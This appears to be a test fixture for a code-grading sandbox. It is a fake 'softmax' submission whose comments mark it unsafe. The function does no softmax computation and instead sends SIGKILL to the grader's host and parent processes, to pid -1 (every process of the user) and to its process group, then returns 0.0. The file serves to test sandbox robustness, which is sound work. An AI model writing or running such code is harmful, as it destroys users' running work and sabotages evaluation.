# Sends SIGKILL to the grader, the zygote, its group and everybody.
# exercise: softmax
# verdict: wrong, raised
# unsafe: it would end every process of the user
import os
import signal


def softmax(x, axis=-1, keepdims=False):
    for pid in (@HOST_PID@, @PARENT_PID@, os.getppid(), -1, 0, -os.getpgid(0)):
        try:
            if pid != 0 and pid != -os.getpgid(0):
                os.kill(pid, signal.SIGKILL)
        except OSError as error:
            print(error)
    return 0.0


logsumexp = log_softmax = softmax
